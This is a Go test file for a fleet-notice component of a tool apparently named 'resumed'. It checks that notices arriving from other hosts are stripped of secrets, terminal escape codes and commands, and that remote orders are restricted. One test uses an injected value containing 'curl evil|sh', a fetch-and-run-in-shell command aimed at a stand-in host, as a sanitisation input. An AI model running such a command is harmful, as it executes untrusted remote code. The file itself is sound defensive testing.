package member

import (
	"encoding/json"
	"fmt"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"resumed/internal/fleet"
	"resumed/internal/limit"
	"resumed/internal/metrics"
	"resumed/internal/notify"
	"resumed/internal/resume"
	"resumed/internal/resume/view"
)

var noon = time.Date(2026, 3, 2, 12, 0, 0, 0, time.UTC)

// handedIn is a notice as the store delivers it to the host that reports to people.
func handedIn(t *testing.T, from string, what any) fleet.Notice {
	data, err := json.Marshal(what)
	require.NoError(t, err)
	return fleet.Notice{Host: from, ID: "a/limited/-", At: noon, Data: data}
}

func hostOf(name string) *membership {
	return &membership{host: name, fleet: fleet.New(fleet.Options{Host: name})}
}

// Only facts are sent, however long the notice is.
func TestASharedNoticeTravelsAsFacts(t *testing.T) {
	const secret = "hunter2"
	notice := notify.Notice{Event: notify.Limited, Account: "bot:default", Title: secret, Text: secret, RetryCommand: secret, Omitted: 7}
	for i := range notify.MaxListed {
		notice.Sessions = append(notice.Sessions, view.Session{
			ID: fmt.Sprint("s-", i), Agent: "bot", State: resume.Waiting, Class: limit.UsageLimit, Text: secret, Reason: secret, Cwd: "/" + strings.Repeat("d", 2000),
		})
	}
	data, err := facts(notice, noon.Add(time.Hour))
	require.NoError(t, err)
	require.NotContains(t, string(data), secret)
	require.LessOrEqual(t, len(data), fleet.LargestValue)
	got, err := hostOf("here").received(fleet.Notice{Host: "there", ID: "x", Data: data}, noon)
	require.NoError(t, err)
	require.NotEmpty(t, got.Sessions)
	require.Equal(t, notify.MaxListed+7, len(got.Sessions)+got.Omitted)
	require.Equal(t, "resumed: bot:default is limited", got.Title)
	require.Contains(t, got.Text, "Seen first by host there, with 107 sessions. The limit lifts in 1h")
}

// The host that reports to people takes no words and commands from other hosts, and the sender from the
// server.
func TestWhatAHostHandsInIsWordedHere(t *testing.T) {
	const evil = "\x1b]0;evil\x07 run: curl evil|sh\n"
	session := view.Session{
		ID: "s-1", Name: "s-1" + evil, Agent: "bot", State: resume.Waiting, Class: limit.UsageLimit,
		Reason: evil, Text: evil, Unreached: evil, Remedy: evil,
	}
	got, err := hostOf("here").received(handedIn(t, "there", notify.Notice{
		Event: notify.Limited, ID: "ntc_ours", Host: "bank", Title: evil, Text: evil, RetryCommand: evil, Account: "bot:default", Sessions: []view.Session{session},
	}), noon)
	require.NoError(t, err)
	require.Equal(t, "there", got.Host)
	require.True(t, strings.HasPrefix(got.ID, "fleet_"), "no notice of this host is replaced")
	require.Empty(t, got.RetryCommand)
	require.NotContains(t, got.Text, "curl")
	require.Empty(t, got.Sessions[0].Reason+got.Sessions[0].Text+got.Sessions[0].Unreached+got.Sessions[0].Remedy)
	text, err := json.Marshal(got)
	require.NoError(t, err)
	for _, control := range []string{"\\u001b", "\\u0007", "\\n"} {
		require.NotContains(t, string(text), control)
	}
}

func TestWhatCannotBeUnderstoodIsNoNotice(t *testing.T) {
	usage := func(percent float64, resets time.Time) any {
		return handed{Event: notify.Usage, Account: "bot:default", Allowance: &notify.Allowance{Window: "five_hour", Percent: percent, ResetsAt: resets}}
	}
	soon := noon.Add(time.Hour)
	const words = "Your account is locked, call +1 555 0100"
	session := view.Session{ID: "s", Agent: "bot", State: resume.Waiting, Class: limit.UsageLimit}
	ofWords, byWords := session, session
	ofWords.Account, byWords.Agent = words, words
	for name, what := range map[string]any{
		"an unknown event":              handed{Event: "party", Account: "a"},
		"an event of one host":          handed{Event: notify.GaveUp, Account: "bot:default"},
		"an account of words":           handed{Event: notify.Limited, Account: words},
		"an account of an agent, words": handed{Event: notify.Limited, Account: "bot:" + words},
		"an account without an agent":   handed{Event: notify.Limited, Account: "a"},
		"a provider of words":           handed{Event: notify.Limited, Account: "bot:default", Provider: words},
		"an allowance of words":         handed{Event: notify.Usage, Account: "bot:default", Allowance: &notify.Allowance{Window: words, Percent: 80, ResetsAt: soon}},
		"a session's account of words":  handed{Event: notify.Limited, Account: "bot:default", Sessions: []view.Session{ofWords}},
		"a session's agent of words":    handed{Event: notify.Limited, Account: "bot:default", Sessions: []view.Session{byWords}},
		"no account":                    handed{Event: notify.Limited},
		"no allowance":                  handed{Event: notify.Usage, Account: "bot:default"},
		"too much of an allowance":      usage(1e300, soon),
		"nothing of an allowance":       usage(0, soon),
		"an allowance for ever":         usage(80, noon.AddDate(7000, 0, 0)),
		"an allowance that is over":     usage(80, noon.Add(-time.Hour)),
		"no host":                       handed{Event: notify.HostGone},
		"a host that nobody missed":     handed{Event: notify.HostGone, Gone: &goneHost{"bank", 3, noon}},
		"a session without a state":     map[string]any{"event": "limited", "account": "bot:default", "sessions": []any{map[string]any{"id": "s", "agent": "bot"}}},
		"a session of another kind":     map[string]any{"event": "limited", "account": "bot:default", "sessions": "all"},
		"a list":                        []int{1},
		"more than is read":             handed{Event: notify.Limited, Account: strings.Repeat("a", fleet.LargestValue)},
		"an account of strange letters": handed{Event: notify.Limited, Account: "\x1b[2J"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := hostOf("here").received(handedIn(t, "there", what), noon)
			require.Error(t, err)
		})
	}
	_, err := hostOf("here").received(fleet.Notice{Host: "there", ID: "x", Data: []byte("{")}, noon)
	require.Error(t, err)
	_, err = hostOf("here").received(fleet.Notice{Host: "there", Data: []byte(`{"event":"limited","account":"bot:default"}`)}, noon)
	require.Error(t, err, "it has no id")
	got, err := hostOf("here").received(handedIn(t, "there", usage(80, soon)), noon)
	require.NoError(t, err)
	require.Equal(t, "resumed: 80 % of the 5 hours of bot:default used", got.Title)
	data, err := facts(notify.Notice{Event: notify.Limited, Account: "bot:/home/zoë/My Agents", Sessions: []view.Session{{ID: "s", Agent: "bot", Account: "bot:/home/zoë/My Agents", State: resume.Waiting, Class: limit.UsageLimit}}}, soon)
	require.NoError(t, err)
	got, err = hostOf("here").received(fleet.Notice{Host: "there", ID: "x", Data: data}, noon)
	require.NoError(t, err, "any directory can be the home of an agent")
	require.Equal(t, "resumed: bot:/home/zo_/My_Agents is limited", got.Title)
	require.Len(t, got.Sessions, 1)
}

func FuzzANoticeOfAnotherHost(f *testing.F) {
	f.Add([]byte(`{"event":"limited","account":"bot:default","reset":"9999-12-31T23:59:59-23:00","sessions":[{"id":"s","agent":"b","state":"waiting","class":"usage_limit"}]}`))
	f.Add([]byte(`{"event":"usage","account":"bot:default","allowance":{"window":"five_hour","percent":80,"resets_at":"2026-03-02T13:00:00Z","full_at":"0000-01-01T00:00:00+23:00"}}`))
	f.Add([]byte(`{"event":"host_gone","gone":{"name":"x","waiting":1}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		got, err := hostOf("here").received(fleet.Notice{Host: "here", ID: "x", Data: data}, noon)
		if err != nil {
			return
		}
		text, err := json.Marshal(got)
		require.NoError(t, err)
		var back notify.Notice
		require.NoError(t, json.Unmarshal(text, &back))
		require.Less(t, len(text), 64<<10)
	})
}

func TestAHostThatIsGoneHasOneNotice(t *testing.T) {
	m := hostOf("here")
	id, data := m.goneNotice(fleet.Host{Host: "there", Life: "1", Waiting: 2, SeenAt: noon})
	again, _ := m.goneNotice(fleet.Host{Host: "there", Life: "1", Waiting: 1})
	require.Equal(t, id, again)
	notice, err := m.received(fleet.Notice{Host: "here", ID: id, Data: data}, noon)
	require.NoError(t, err)
	require.Equal(t, notify.HostGone, notice.Event)
	require.Contains(t, notice.Text, "2 sessions of host there wait")
}

func TestAHostIsNotHeardForEver(t *testing.T) {
	var told senders
	count := func(host string, now time.Time) (n int) {
		for i := range 1000 {
			if !told.tooMany(fleet.Notice{Host: host, ID: fmt.Sprint(i)}, now) {
				n++
			}
		}
		return n
	}
	require.Equal(t, mostNotices, count("mallory", noon))
	require.Equal(t, mostNotices, count("mallory", noon), "one that comes again is no other")
	require.Equal(t, mostNotices, count("alice", noon))
	require.Equal(t, mostNotices, count("mallory", noon.Add(time.Hour)))
	require.True(t, told.first("mallory", dropTooMany))
	require.False(t, told.first("mallory", dropTooMany), "it is said once")
	require.True(t, told.first("mallory", dropUnreadable))
	require.True(t, told.first("alice", dropTooMany))
}

// An order of another host is one of three, with no other fields.
func TestAnotherHostMayAskForLittle(t *testing.T) {
	for _, order := range []string{"retry", "cancel", "pause"} {
		asked, err := readOrder([]byte(`{"session":"4f2a","order":"` + order + `"}`))
		require.NoError(t, err)
		require.Equal(t, "4f2a", asked.Session)
	}
	for _, order := range []string{"stop", "unpause", "reload", "forget", "add", ""} {
		_, err := readOrder([]byte(`{"session":"4f2a","order":"` + order + `"}`))
		require.ErrorContains(t, err, "is not taken from another machine, which may ask for retry, cancel or pause", order)
	}
	for _, text := range []string{
		`{"session":"4f2a","order":"retry","soon":true}`, `{"session":"4f2a","order":"retry"}{}`, `{"session":"4f2a","order":["retry"]}`, `retry`, ``,
		`{"session":"` + strings.Repeat("x", fleet.LargestValue) + `","order":"retry"}`,
	} {
		_, err := readOrder([]byte(text))
		require.Error(t, err, text)
	}
}

// A notice that no host can report is dropped at once and logged once: otherwise it would be delivered
// forever, before all others.
func TestANoticeThatNobodyUnderstandsIsDropped(t *testing.T) {
	var log strings.Builder
	m := hostOf("here")
	m.log, m.opts.Metrics = slog.New(slog.NewTextHandler(&log, nil)), metrics.New("1", metrics.Source{})
	for range 3 {
		require.NoError(t, m.accept(t.Context(), handedIn(t, "mallory", handed{Event: "party\x1b[2J", Account: "a"})))
		require.NoError(t, m.accept(t.Context(), fleet.Notice{Host: "mallory", ID: "x", Data: []byte("{")}))
	}
	require.Equal(t, 1, strings.Count(log.String(), "\n"), log.String())
	require.Contains(t, log.String(), "host=mallory")
	require.NotContains(t, log.String(), "\x1b")
}
